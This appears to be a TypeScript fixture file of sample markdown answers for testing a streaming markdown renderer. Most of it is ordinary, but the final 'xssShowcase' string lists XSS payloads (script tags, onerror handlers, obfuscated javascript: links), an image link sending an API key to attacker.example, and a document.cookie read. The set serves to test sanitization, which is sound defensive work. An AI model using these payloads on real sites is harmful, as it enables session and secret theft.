/** Sample answers the StreamingMarkdown stories stream. */

export const technicalAnswer = `# Streaming an LLM answer over SSE

Server-sent events are the simplest way to stream tokens: one HTTP response, **many events**.

## 1. Read the body

\`\`\`ts
const response = await fetch('/api/chat', { method: 'POST', body: JSON.stringify({ messages }) })
const reader = response.body!.pipeThrough(new TextDecoderStream()).getReader()
\`\`\`

## 2. Split events

Each event ends with a blank line. A chunk may end *anywhere*:

- inside a line,
- inside a \`\\r\\n\` pair,
- inside a multi-byte character — so decode with \`{ stream: true }\`.

> **Tip:** keep the partial line in a buffer and only parse complete lines.

## 3. Handle the end

| provider | terminator | error event |
| --- | --- | --- |
| OpenAI | \`data: [DONE]\` | HTTP status |
| Anthropic | \`message_stop\` | \`event: error\` |

If the stream ends without its terminator it was **truncated**: keep the text, show a retry button.
See the [WHATWG spec][sse] for the exact algorithm.

[sse]: https://html.spec.whatwg.org/multipage/server-sent-events.html
`

export const gfmShowcase = `## Every GFM feature

| Left | Center | Right |
| :--- | :----: | ----: |
| \`code\` | **bold** | 1 |
| ~~old~~ | *new* | 22 |

- [x] tables
- [x] task lists
- [ ] footnotes[^1]

Autolinks: www.example.com and https://example.org/docs, mail hello@example.com.

~~Strikethrough~~ and a hard line break\\
on two lines.

---

1. ordered
2. list
   - nested

[^1]: Footnotes resolve even when the definition comes last.
`

export const codeHeavyAnswer = `Here is a typed fetch helper:

\`\`\`ts
export async function getJson<T>(url: string, signal?: AbortSignal): Promise<T> {
  const response = await fetch(url, { signal })
  if (!response.ok) throw new Error(\`HTTP \${response.status}\`)
  return (await response.json()) as T
}
\`\`\`

And the Python side:

\`\`\`python
from fastapi import FastAPI
from fastapi.responses import StreamingResponse

app = FastAPI()

@app.post("/chat")
async def chat():
    async def tokens():
        for word in ["Hello", " ", "world"]:
            yield f"data: {word}\\n\\n"
    return StreamingResponse(tokens(), media_type="text/event-stream")
\`\`\`

Run it with \`uvicorn main:app --reload\`.
`

export const cjkAnswer = `# 流式渲染

模型会**逐字**输出答案，界面需要*平滑*地显示每一个字，同时保持 \`Markdown\` 格式正确。

日本語：ストリーミング中も**太字**と*斜体*が正しく表示されます。

한국어: 스트리밍 중에도 **굵은 글씨**가 올바르게 표시됩니다.

- 第一项：计算 2 * 3 = 6，星号保持原样
- 第二项：变量名 snake_case_name 不会变成斜体
`

export const xssShowcase = `# Prompt-injected answer (every payload below is harmless)

<script>alert('script tag')</script>

<img src=x onerror="alert('img onerror')">

<iframe src="javascript:alert('iframe')"></iframe>

[javascript link](javascript:alert('link'))
[entity-encoded](&#106;avascript&colon;alert(1))
[tab inside](<java\tscript:alert(1)>)
[data URL](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

[title breakout](https://example.com "x\\" onmouseover=\\"alert(1)")

![exfiltration](https://attacker.example/collect?secret=API_KEY)

\`\`\`js" onclick="alert('info string')
console.log('fenced code is just text')
\`\`\`

Read [the unfinished link](javascript:alert(document.cookie)`
